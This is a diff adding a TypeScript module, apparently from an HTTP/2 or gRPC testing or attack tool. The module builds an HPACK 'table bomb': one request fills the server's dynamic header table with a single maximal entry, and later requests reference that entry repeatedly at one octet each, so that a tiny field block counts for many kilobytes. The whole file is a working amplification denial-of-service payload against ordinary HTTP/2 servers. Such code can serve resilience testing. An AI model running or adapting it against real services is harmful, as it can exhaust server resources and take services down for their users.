@@ -1,0 +1,39 @@
+import type { CallRequest } from '../grpc/call-request';
+import type { TargetFacts } from '../facts/target-facts';
+import { encodeIndexed, encodeLiteral } from '../wire/hpack/encoder';
+import { staticTable } from '../wire/hpack/static-table';
+import { joinOctets } from '../wire/join-octets';
+import { literalRequest } from './literal-request';
+import { tableLimit } from './table-of-requests';
+
+/** Octets that an entry of a table counts beside its name and value (RFC 7541 §4.1). */
+const entryOverhead = 32;
+
+/** Octets of the largest table that a client may count on, whatever the target announces. */
+const usualTable = 4096;
+
+/** A field block that is small and stands for much. */
+export interface TableBomb {
+  /** Field block of the request that fills the table, which must come first on its connection. */
+  readonly fuse: Uint8Array;
+  /** Field block of a request that refers to that entry, an octet each time. */
+  readonly block: (references: number) => Uint8Array;
+  /** Octets for which each reference counts in a field section (RFC 9113 §6.5.2). */
+  readonly entry: number;
+}
+
+/**
+ * One entry as large as the table of requests may be, and blocks of references to it; all else is in literals, so that the entry stays where it is.
+ * @param name of the field
+ */
+export function tableBomb(facts: TargetFacts, request: Pick<CallRequest, 'path'>, name: string): TableBomb {
+  const room = Math.min(tableLimit(facts), usualTable) - entryOverhead - name.length;
+  const value = 'b'.repeat(Math.max(1, room));
+  const ordinary = literalRequest(facts, request);
+  const reference = encodeIndexed(staticTable.length + 1);
+  return {
+    fuse: joinOctets([ordinary, encodeLiteral({ name, value, representation: 'incremental', huffman: false })]),
+    block: (references) => joinOctets([ordinary, ...Array.from({ length: references }, () => reference)]),
+    entry: name.length + value.length + entryOverhead,
+  };
+}
